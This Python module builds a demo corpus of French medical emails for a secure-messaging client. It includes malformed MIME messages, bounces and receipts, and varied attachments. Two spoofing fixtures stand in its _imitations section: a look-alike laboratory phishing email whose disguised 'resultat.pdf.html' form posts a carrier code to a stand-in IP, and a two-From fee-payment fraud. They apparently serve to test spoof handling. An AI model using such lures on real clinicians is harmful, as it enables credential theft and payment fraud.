"""Broken messages, imitations, bounces and receipts, and attachments of the less usual kinds."""

from mssclient.demo.corpus import enclosures, mime
from mssclient.demo.corpus.calendar import Calendar, mail_date
from mssclient.demo.corpus.draft import SEEN, Draft, Labels, message_id, written
from mssclient.demo.corpus.mime import Part
from mssclient.demo.corpus.patients import PATIENTS
from mssclient.demo.corpus.people import AUBRY, PEOPLE, Person
from mssclient.demo.corpus.pictures import shipped

__all__ = ["drafts"]

_AUTOMATIC = (("Auto-Submitted", "auto-replied"),)
_POSTMASTER = Person(
    "postmaster",
    "Système de distribution",
    "mailer-daemon@medecin.mssante.fr",
    trust="mssante",
    kind="organisational",
)


def drafts(calendar: Calendar) -> list[Draft]:
    return [*_broken(calendar), *_imitations(calendar), *_reports(), *_enclosures(calendar)]


def _raw(
    calendar: Calendar, days: int, clock: str, key: str, head: str, body: bytes, lines: str = "\r\n"
) -> bytes:
    """A message written by hand: the date and the identifier are put before ``head``."""
    date = mail_date(calendar.moment(days, clock))
    text = f"Date: {date}\nMessage-ID: {message_id(key)}\nTo: {AUBRY.address}\n{head}\n\n"
    return text.replace("\n", lines).encode("utf-8", "surrogateescape") + body


def _broken(calendar: Calendar) -> list[Draft]:
    pdf = enclosures.letter_pdf(
        "CH de la Vallée", "Courrier", "Courrier de consultation, deux pages manquantes."
    )
    part = mime.attachment("courrier.pdf", pdf, "application/pdf")
    cut = (
        b'--=_cesure\r\nContent-Type: text/plain; charset="utf-8"\r\n\r\n'
        + "Bonjour, le courrier est en pièce jointe. L’envoi a été coupé.\r\n".encode()
        + b'\r\n--=_cesure\r\nContent-Type: application/pdf; name="courrier.pdf"\r\n'
        + b"Content-Transfer-Encoding: base64\r\n"
        + b"Content-Disposition: attachment; filename=courrier.pdf\r\n\r\n"
        + part.body[: len(part.body) // 2]
    )
    eight = "Bonjour, le patient est rentré chez lui, tout va bien. À bientôt.\r\n".encode("cp1252")
    nested = (
        b"--b1\r\nContent-Type: multipart/alternative; boundary=b1\r\n\r\n--b1\r\nContent-Type: "
        b"text/plain\r\n\r\n"
        b"Partie dont la limite est celle de son parent.\r\n--b1--\r\n"
    )
    rows = (
        (
            "b-cut",
            10,
            "21:40",
            "multipart-without-end",
            PEOPLE["ortho"],
            "Courrier (incomplet)",
            'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="=_cesure"',
            cut,
        ),
        (
            "b-eight",
            41,
            "08:22",
            "undeclared-eight-bit",
            PEOPLE["glycines"],
            "Retour de M. FERRAND",
            "",
            eight,
        ),
        (
            "b-noboundary",
            77,
            "15:05",
            "multipart-without-boundary",
            PEOPLE["had"],
            "Passage du jour",
            "MIME-Version: 1.0\nContent-Type: multipart/mixed",
            b"Texte sans limite de parties.\r\n",
        ),
        (
            "b-sameboundary",
            135,
            "10:51",
            "multipart-boundary-twice",
            PEOPLE["msp"],
            "Planning",
            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b1",
            nested,
        ),
    )
    made: list[Draft] = []
    for key, days, clock, shape, sender, subject, head, body in rows:
        top = f"From: {sender.address}\nSubject: {subject}\n{head}".rstrip("\n")
        made.append(
            Draft(
                key=key,
                days=days,
                clock=clock,
                sender=sender,
                subject=subject,
                raw=_raw(calendar, days, clock, key, top, body),
                shape=f"broken-{shape}",
                labels=Labels(documents=("pdf",) if key == "b-cut" else ()),  # half a file, still a PDF
                small=days < 20,
            )
        )
    return made


def _imitations(calendar: Calendar) -> list[Draft]:
    sauvignet = PEOPLE["sauvignet"]
    two = (
        f"From: {sauvignet.address}\nFrom: facturation@cardio-reglement.example\nSubject: Honoraires "
        "en attente\n"
        "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8"
    )
    body = (
        "Merci de régler les honoraires de votre patient sur le compte suivant avant vendredi.\r\n".encode()
    )
    return [
        Draft(
            key="t-look-alike",
            days=18,
            clock="07:41",
            sender=PEOPLE["spoof_labo"],
            subject="Résultats – patient à identifier",
            text=(
                "Bonjour,\n\nUn résultat urgent vous attend. Ouvrez le document joint et saisissez "
                "votre code porteur "
                "pour l’afficher.\n\nLaboratoire Valvert\n"
            ),
            attachments=[
                mime.attachment(
                    "resultat.pdf.html",
                    b"<html><body><form action='http://203.0.113.9/'><input "
                    b"name='code'></form></body></html>\r\n",
                    "text/html",
                )
            ],
            shape="spoof-look-alike-domain",
        ),
        Draft(
            key="t-two-from",
            days=56,
            clock="23:12",
            sender=sauvignet,
            subject="Honoraires en attente",
            raw=_raw(calendar, 56, "23:12", "t-two-from", two, body),
            shape="spoof-two-from",
            trust="doubtful",
        ),
    ]


def _report_part(kind: str, fields: str) -> Part:
    return Part((("Content-Type", kind),), fields.replace("\n", "\r\n").encode("utf-8"))


def _reports() -> list[Draft]:
    """What comes back by itself: undeliverable, delivered, displayed, not integrated."""
    patient = PATIENTS["benamar"].address
    bounce = mime.multipart(
        "report",
        [
            mime.text(
                "Message non distribué\n\nVotre message n’a pas pu être remis : la boîte aux lettres "
                "de ce patient est "
                "clôturée.\n"
            ),
            _report_part(
                "message/delivery-status",
                "Reporting-MTA: dns; mta.patient.mssante.fr\n\n"
                f"Final-Recipient: rfc822; {patient}\nAction: failed\nStatus: 5.2.1\n"
                "Diagnostic-Code: smtp; 550 5.2.1 Mailbox closed\n",
            ),
        ],
        "rep_bounce_0001",
        ";\r\n report-type=delivery-status",
    )
    receipt = mime.multipart(
        "report",
        [
            mime.text("Votre message a été affiché. Cela ne garantit pas qu’il a été lu ou compris.\n"),
            _report_part(
                "message/disposition-notification",
                f"Reporting-UA: poste-07; Messagerie\nFinal-Recipient: rfc822;{PEOPLE['dumontel'].address}\n"
                f"Original-Message-ID: {message_id('sent-endocrino-chappuis')}\n"
                "Disposition: manual-action/MDN-sent-manually; displayed\n",
            ),
        ],
        "rep_mdn_0001",
        ";\r\n report-type=disposition-notification",
    )
    refused = mime.multipart(
        "report",
        [
            mime.text(
                "Le document n’a pas pu être intégré : patient inconnu dans le logiciel destinataire.\n"
            ),
            _report_part(
                "message/disposition-notification",
                f"Reporting-UA: passerelle; Integration\nFinal-Recipient: rfc822;{PEOPLE['pneumo'].address}\n"
                f"Original-Message-ID: {message_id('tissot-answer')}\n"
                "Disposition: automatic-action/MDN-sent-automatically; processed/Error: 902^Patient "
                "inconnu\n",
            ),
        ],
        "rep_mdn_0002",
        ";\r\n report-type=disposition-notification",
    )
    return [
        Draft(
            key="r-bounce",
            days=81,
            clock="12:24",
            sender=_POSTMASTER,
            subject="Message non distribué",
            content=bounce,
            headers=_AUTOMATIC,
            bounce=True,
            shape="bounce-mes",
        ),
        Draft(
            key="r-displayed",
            days=64,
            clock="18:36",
            sender=PEOPLE["dumontel"],
            subject="Lu : Avis diabétologique",
            content=receipt,
            answers=["sent-endocrino-chappuis"],
            headers=_AUTOMATIC,
            bounce=True,
            shape="mdn-displayed",
        ),
        Draft(
            key="r-refused",
            days=0,
            clock="10:02",
            sender=PEOPLE["pneumo"],
            subject="[KO Intégration système !][902] XDM/1.0/DDM+CR hospitalisation – M. TISSOT",
            content=refused,
            answers=["tissot-answer"],
            headers=_AUTOMATIC,
            bounce=True,
            shape="mdn-not-integrated",
            small=True,
        ),
    ]


def _enclosures(calendar: Calendar) -> list[Draft]:
    lantelme, ambrosi = PEOPLE["lantelme"], PEOPLE["ambrosi"]
    inner = written(
        Draft(
            key="e-eml-inner",
            days=46,
            clock="12:31",
            sender=PEOPLE["imagerie"],
            subject="Écho-Doppler artériel",
            text="Docteur,\n\nDoppler artériel des membres inférieurs normal. "
            "IPS à 1,02 à droite, 0,98 à gauche.\n",
        ),
        calendar,
    )
    planning = "jour;matin;après-midi\nlundi;Aubry;Valade\nmardi;Aubry;Aubry\nmercredi;Valade;fermé\n"
    return [
        Draft(
            key="e-vcard",
            days=33,
            clock="09:47",
            sender=ambrosi,
            subject="Mes nouvelles coordonnées",
            text=f"Chers confrères,\n\nJe change de cabinet : carte jointe.\n\n{ambrosi.signature}\n",
            attachments=[mime.attachment("Étienne Ambrosi.vcf", enclosures.vcard(ambrosi), "text/vcard")],
            shape="vcard",
        ),
        Draft(
            key="e-ecg",
            days=24,
            clock="15:12",
            sender=PEOPLE["montand"],
            subject="ECG d’une patiente commune",
            text="Camille,\n\nTracé de ce matin, pouls irrégulier. Tu confirmes ?\n\nÉtienne\n",
            attachments=[mime.attachment("ecg.png", shipped("ecg.png"), "image/png")],
            shape="picture-png",
        ),
        Draft(
            key="e-eml",
            days=46,
            clock="14:03",
            sender=PEOPLE["coursan"],
            subject="Tr : Écho-Doppler artériel",
            text="Docteur,\n\nJe vous transfère ce que j’ai reçu par erreur.\n\nMathilde Coursan\n",
            attachments=[mime.forwarded(inner, "Écho-Doppler artériel.eml")],
            shape="forwarded-message",
        ),
        Draft(
            key="e-txt",
            days=52,
            clock="11:08",
            sender=PEOPLE["msp"],
            subject="Planning des salles",
            text="Bonjour,\n\nCi-joint le planning des salles.\n",
            attachments=[mime.attachment("planning.txt", planning.encode("utf-8"), "text/plain")],
            shape="text-file",
        ),
        Draft(
            key="e-naevus",
            days=57,
            clock="13:38",
            sender=lantelme,
            subject="Dermoscopie – Mme CHARVIN Émilie",
            text=f"Chère consœur,\n\nImage de la lésion avant l’exérèse.\n\n{lantelme.signature}\n",
            html="<p>Chère consœur,</p><p>Image de la lésion avant l’exérèse&nbsp;:</p>"
            '<p><img src="cid:dermoscopie@messagerie.demonstration" width="450" height="450"></p>'
            "<p>Dr Maud LANTELME</p>",
            inline=[
                mime.attachment(
                    "dermoscopie.jpg",
                    shipped("naevus.jpg"),
                    "image/jpeg",
                    disposition="inline",
                    content_id="dermoscopie@messagerie.demonstration",
                )
            ],
            shape="html-inline-picture",
        ),
        Draft(
            key="e-scan",
            days=96,
            clock="17:17",
            sender=PEOPLE["had"],
            subject="Ordonnance signée",
            text="Docteur,\n\nVotre ordonnance nous est bien parvenue, copie jointe.\n",
            attachments=[
                mime.attachment(
                    "numérisation 0012.pdf",
                    enclosures.scanned_page(shipped("ordonnance_scan.jpg"), 1240, 1754),
                    "application/pdf",
                )
            ],
            flags=(SEEN, "Classe"),
            shape="pdf-scanned",
            labels=Labels(documents=("pdf",)),
        ),
    ]
